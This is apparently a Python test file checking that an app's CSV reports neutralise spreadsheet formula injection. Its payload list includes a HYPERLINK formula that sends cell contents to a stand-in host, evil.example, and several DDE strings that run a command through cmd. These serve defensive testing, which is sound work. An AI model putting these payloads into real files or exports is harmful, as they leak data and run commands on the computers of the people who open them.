"""CSV the app writes cannot run as a spreadsheet formula (CSV/formula injection).

A left-out report is opened in Excel by the person who uploaded the data; a cell starting
with ``=``, ``+``, ``-``, ``@``, tab or carriage return would be evaluated there.  The
report's reasons can hold user text, so every such cell must come out inert.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from validators.checking import checks
from validators.exporting import export
from validators.exporting.csv_safe import neutralise, to_csv
from validators.model import Example

ROOT = Path(__file__).parent.parent
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_each_trigger_is_neutralised() -> None:
    for payload in PAYLOADS:
        out = neutralise(payload)
        assert out == "'" + payload and not out.startswith(TRIGGERS)
    assert neutralise("plain text") == "plain text" and neutralise(None) == ""
    assert neutralise("a=b") == "a=b", "only the start of a cell matters"


@given(st.text())
def test_no_cell_written_starts_with_a_trigger(text: str) -> None:
    data = to_csv(["row", text], [[2, text], [3, "x" + text]])
    rows = read_cells(data)
    assert len(rows) == 3
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS)
    assert rows[1][1] == ("'" + text if text.startswith(TRIGGERS) else text), "nothing else changes"


def test_left_out_report_from_export_build_is_inert() -> None:
    """Reasons that carry user text (a dropped reason typed in the UI) through export.build."""
    examples = [
        Example(i, (i + 1,), {"messages": [{"role": "user", "content": f"q{i}"}, {"role": "assistant", "content": f"answer {i}"}]})
        for i in range(1, 13)
    ]
    for ex, payload in zip(examples, PAYLOADS):
        ex.dropped = payload
    result = checks.run(examples, near=False)
    out = export.build(result, "openai", source_rows=tuple(range(2, 14)))
    rows = read_cells(out.report)
    assert rows[0] == ["row", "reason"]
    assert len(rows) - 1 == len(PAYLOADS) == len(out.left_out)
    for row_no, reason in rows[1:]:
        assert not reason.startswith(TRIGGERS) and reason.lstrip("'") in PAYLOADS
        assert int(row_no) in range(2, 14)


def test_negative_numbers_stay_numbers() -> None:
    """Row numbers are ints and written as such; a negative int is a number, not a formula."""
    assert read_cells(to_csv(["row"], [[-5]]))[1] == ["-5"]


def test_no_other_csv_writer_in_the_app() -> None:
    """Every CSV the app writes goes through csv_safe: no other module opens a csv writer."""
    offenders = []
    for folder in ("validators", "ui", "pages", "pages"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csv_safe.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.writer\(|DictWriter\(|\.to_csv\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    app = ROOT / "app.py"
    if app.exists() and re.search(r"csv\.writer\(|DictWriter\(|\.to_csv\(", app.read_text(encoding="utf-8")):
        offenders.append("app.py")
    assert offenders == []


def test_bare_carriage_return_cannot_start_a_new_row() -> None:
    """A cell with a bare CR inside must stay one quoted cell, or the text after it would
    become a new, un-neutralised row in Excel (found by the property test above)."""
    rows = read_cells(to_csv(["row", "reason"], [[2, "looks fine\r=cmd|' /C calc'!A0"]]))
    assert rows == [["row", "reason"], ["2", "looks fine\r=cmd|' /C calc'!A0"]]
